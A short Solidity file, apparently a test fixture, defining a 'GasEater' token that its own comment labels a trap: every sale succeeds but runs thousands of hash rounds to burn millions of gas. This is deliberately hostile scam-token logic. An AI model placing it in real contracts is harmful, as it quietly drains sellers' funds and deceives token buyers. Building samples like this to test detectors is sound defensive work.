// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {PoolToken} from "base/PoolToken.sol";

/// Trap: a sale succeeds, but hashes until it has used some millions of gas.
contract GasEater is PoolToken {
    bytes32 private sink;

    constructor(string memory name_, string memory symbol_, uint256 supply) PoolToken(name_, symbol_, supply) {}

    function _update(address from, address to, uint256 value) internal override {
        if (_isSell(from, to)) {
            bytes32 mixed = sink;
            for (uint256 i = 0; i < 7_000; i++) mixed = keccak256(abi.encode(mixed, i));
            sink = mixed;
        }
        _write(from, to, value);
    }
}
